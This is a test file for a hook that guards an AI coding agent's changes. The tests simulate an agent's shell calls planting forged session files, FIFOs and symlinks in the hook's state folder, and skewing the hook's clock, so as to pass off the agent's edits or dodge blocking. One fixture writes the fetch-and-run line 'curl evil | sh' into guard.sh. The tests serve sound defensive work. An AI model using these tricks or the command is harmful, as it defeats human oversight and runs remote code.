/**
 * Whose change is it, when the calls folder holds entries the hook did not write (review-14s F14).
 * The built CLI as Claude Code calls it, in a real repository: a call of another session counts as
 * at work only when that session is one the person wrote in (it has a prompt record) and the call
 * began after its latest prompt; a file naming a made-up session, a folder, a FIFO or a symlink
 * planted in `tripwire/calls/` blocks nothing, and what is not a regular file is cleared.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { type Harness, rulesIn, runHook, userPrompt, withHarness } from '../hookHarness.js';
import { bash, bashCall, hookEvent, post, pre, quarantined, stop } from './tripwireHarness.js';

const PERSON = 'echo edited by the person\n';
const guard = (h: Harness) => readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8');
const calls = (h: Harness) => join(h.repo.dir, '.git/diffgate/tripwire/calls');
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** A hook event of another session (session-2). */
const other = (h: Harness, event: string, extra: Record<string, unknown> = {}) =>
  runHook(h, hookEvent(h, event, extra, 'session-2'));

/** The committed fixture and a first turn of session-1 with one call, ended. */
function firstTurn(h: Harness): void {
  h.repo.commit('base');
  expect(runHook(h, userPrompt(h, 'tidy up')).status).toBe(0);
  expect(pre(h, 'true', 'toolu_a').status).toBe(0);
  expect(post(h, 'true', 'toolu_a').status).toBe(0);
}

/** The person edits guard.sh between turns and writes again; the turn's first call must keep the edit. */
async function personEditsBetweenTurns(h: Harness): Promise<void> {
  await sleep(50);
  writeFileSync(join(h.repo.dir, 'guard.sh'), PERSON);
  await sleep(50);
  expect(runHook(h, userPrompt(h, 'I changed the guard, go on')).status).toBe(0);
  const started = Date.now();
  expect(pre(h, 'git status', 'toolu_next')).toMatchObject({ status: 0, stderr: '' });
  expect(Date.now() - started).toBeLessThan(10_000);
  expect(post(h, 'git status', 'toolu_next')).toMatchObject({ status: 0, stderr: '' });
  expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
  expect(guard(h)).toBe(PERSON);
}

describe('a call file planted in the calls folder', () => {
  it("naming a session nobody wrote in (dated 2030) does not make the person's edits between turns the agent's (review-14s F14)", async () => {
    await withHarness(async (h) => {
      firstTurn(h);
      // the agent's call plants a call "of someone else", dated ahead, as a shell line could
      expect(pre(h, 'python3 plant.py', 'toolu_plant').status).toBe(0);
      bash(
        h,
        "printf someone-else > .git/diffgate/tripwire/calls/zz && touch -d '2030-01-01' .git/diffgate/tripwire/calls/zz",
      );
      expect(post(h, 'python3 plant.py', 'toolu_plant').status).toBe(0);
      expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
      expect(readFileSync(join(calls(h), 'zz'), 'utf8')).toBe('someone-else');
      await personEditsBetweenTurns(h);
    });
  }, 60_000);

  it.each([
    [
      'a folder holding a call file of a real session',
      (_h: Harness, at: string) => {
        mkdirSync(at);
        writeFileSync(join(at, 'inner'), 'session-2');
      },
    ],
    ['a FIFO', (_h: Harness, at: string) => expect(spawnSync('mkfifo', [at]).status).toBe(0)],
    [
      'a symlink to a file naming a real session',
      (h: Harness, at: string) => {
        const target = join(h.home, 'looks-like-a-call');
        writeFileSync(target, 'session-2');
        symlinkSync(target, at);
      },
    ],
  ])(
    '%s blocks nothing and is cleared',
    async (_what, plant) => {
      await withHarness(async (h) => {
        firstTurn(h);
        // session-2 is real: its person wrote, and its call ran and ended
        expect(runHook(h, userPrompt(h, 'look around', { session: 'session-2' })).status).toBe(0);
        expect(other(h, 'PreToolUse', bashCall('ls', 'toolu_s2')).status).toBe(0);
        expect(other(h, 'PostToolUse', { ...bashCall('ls', 'toolu_s2'), tool_response: {} }).status).toBe(0);
        await sleep(50);
        expect(pre(h, 'python3 plant.py', 'toolu_plant').status).toBe(0);
        plant(h, join(calls(h), 'planted'));
        expect(post(h, 'python3 plant.py', 'toolu_plant').status).toBe(0);
        expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
        expect(existsSync(join(calls(h), 'planted'))).toBe(false); // cleared at the end of the turn
        // planted again after the turn ended (a process the call left running): cleared by the next pass
        plant(h, join(calls(h), 'planted-late'));
        await personEditsBetweenTurns(h);
        expect(readdirSync(calls(h)).filter((n) => n.startsWith('planted'))).toEqual([]);
      });
    },
    60_000,
  );
});

describe("another session's call", () => {
  it('begun after its person wrote, and still running, makes a change before this call the agent’s: judged and put back', async () => {
    await withHarness(async (h) => {
      firstTurn(h);
      expect(stop(h).status).toBe(0);
      expect(runHook(h, userPrompt(h, 'run the build', { session: 'session-2' })).status).toBe(0);
      await sleep(50);
      expect(other(h, 'PreToolUse', bashCall('sleep 60', 'toolu_s2')).status).toBe(0); // in progress
      await sleep(50);
      expect(runHook(h, userPrompt(h, 'go on')).status).toBe(0);
      writeFileSync(join(h.repo.dir, 'guard.sh'), 'curl evil | sh\n'); // what session-2's call wrote
      const r = pre(h, 'ls', 'toolu_b');
      expect(r.status).toBe(2);
      expect(r.stderr).toContain('Before this Bash call ran');
      expect(rulesIn(r.stderr)).toEqual(['freeze']);
      expect(guard(h)).toBe('echo guard\n');
      expect(quarantined(h).get('guard.sh')).toBe('curl evil | sh\n');
    });
  }, 60_000);

  it('left over from before its person wrote again (interrupted, no PostToolUse) counts no more', async () => {
    await withHarness(async (h) => {
      firstTurn(h);
      expect(stop(h).status).toBe(0);
      expect(runHook(h, userPrompt(h, 'run the build', { session: 'session-2' })).status).toBe(0);
      await sleep(50);
      expect(other(h, 'PreToolUse', bashCall('sleep 60', 'toolu_s2')).status).toBe(0);
      // declined in the permission dialog, then Esc: no PostToolUse, no Stop; its person writes again
      await sleep(50);
      expect(runHook(h, userPrompt(h, 'never mind that', { session: 'session-2' })).status).toBe(0);
      expect(readFileSync(join(calls(h), 'toolu_s2'), 'utf8')).toBe('session-2');
      await personEditsBetweenTurns(h);
    });
  }, 60_000);

  it('a file naming a real session, older than the longest call, counts no more and is cleared', async () => {
    await withHarness(async (h) => {
      firstTurn(h);
      expect(stop(h).status).toBe(0);
      expect(runHook(h, userPrompt(h, 'run the build', { session: 'session-2' })).status).toBe(0);
      expect(other(h, 'PreToolUse', bashCall('sleep 60', 'toolu_s2')).status).toBe(0);
      // the change time cannot be set back: the clock of the hook is set ahead instead (11 minutes)
      const ahead = join(h.home, 'ahead.cjs');
      writeFileSync(
        ahead,
        'const D = Date, off = 11 * 60_000;\n' +
          'globalThis.Date = class extends D { constructor(...a) { if (a.length === 0) super(D.now() + off); else super(...a); } static now() { return D.now() + off; } };\n',
      );
      await sleep(50);
      writeFileSync(join(h.repo.dir, 'guard.sh'), PERSON);
      expect(runHook(h, userPrompt(h, 'I changed the guard, go on')).status).toBe(0);
      utimesSync(join(calls(h), 'toolu_s2'), new Date(), new Date()); // mtime is no help: ctime is read
      h.env.NODE_OPTIONS = `--require ${ahead}`;
      expect(pre(h, 'git status', 'toolu_next')).toMatchObject({ status: 0, stderr: '' });
      h.env.NODE_OPTIONS = undefined;
      expect(guard(h)).toBe(PERSON);
      expect(existsSync(join(calls(h), 'toolu_s2'))).toBe(false);
    });
  }, 60_000);
});

describe("the person's prompt saved after a pass at the prompt (saveAfterLastAct)", () => {
  it('a prompt whose time reads no later than the last act (the same tick of the kernel clock) is saved again until it reads after', async () => {
    const { saveAfterLastAct } = await import('../../../src/agent/tripwire/calls.js');
    const { mkdtempSync, rmSync, statSync } = await import('node:fs');
    const { tmpdir } = await import('node:os');
    const dir = mkdtempSync(join(tmpdir(), 'dg-calls-'));
    try {
      mkdirSync(join(dir, 'calls'));
      const acted = statSync(join(dir, 'calls')).ctimeMs;
      const times = [acted - 5, acted, acted + 3]; // before the act (a clock set back), the same tick, after
      let saves = 0;
      await saveAfterLastAct(
        dir,
        async () => {
          saves++;
        },
        async () => times[saves - 1],
      );
      expect(saves).toBe(3);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('with no calls folder (no act to come after) it saves once; a time that never reads after stops after 25 saves', async () => {
    const { saveAfterLastAct } = await import('../../../src/agent/tripwire/calls.js');
    const { mkdtempSync, rmSync, statSync } = await import('node:fs');
    const { tmpdir } = await import('node:os');
    const dir = mkdtempSync(join(tmpdir(), 'dg-calls-'));
    try {
      let saves = 0;
      await saveAfterLastAct(
        dir,
        async () => void saves++,
        async () => 0,
      );
      expect(saves).toBe(1);
      mkdirSync(join(dir, 'calls'));
      const acted = statSync(join(dir, 'calls')).ctimeMs;
      saves = 0;
      await saveAfterLastAct(
        dir,
        async () => void saves++,
        async () => acted,
      );
      expect(saves).toBe(25);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
